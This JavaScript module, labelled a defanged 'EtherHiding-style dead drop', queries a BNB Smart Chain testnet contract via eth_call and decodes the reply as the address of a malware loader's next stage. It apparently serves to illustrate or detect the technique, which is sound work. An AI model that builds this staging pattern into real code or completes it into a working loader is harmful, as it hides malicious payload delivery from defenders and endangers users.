// EtherHiding-style dead drop (defanged): the next stage is read from a
// contract on the BNB Smart Chain testnet with eth_call.
const RPC = 'https://data-seed-prebsc-1-s1.bnbchain.org:8545';

async function stage() {
  const res = await fetch(RPC, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x0000000000000000000000000000000000000001', data: '0x6d4ce63c' }, 'latest'] }),
  });
  const hex = (await res.json()).result;
  // The contract returns an ABI-encoded string: the next stage's address.
  return Buffer.from(hex.slice(130), 'hex').toString('utf8');
}
module.exports = stage;
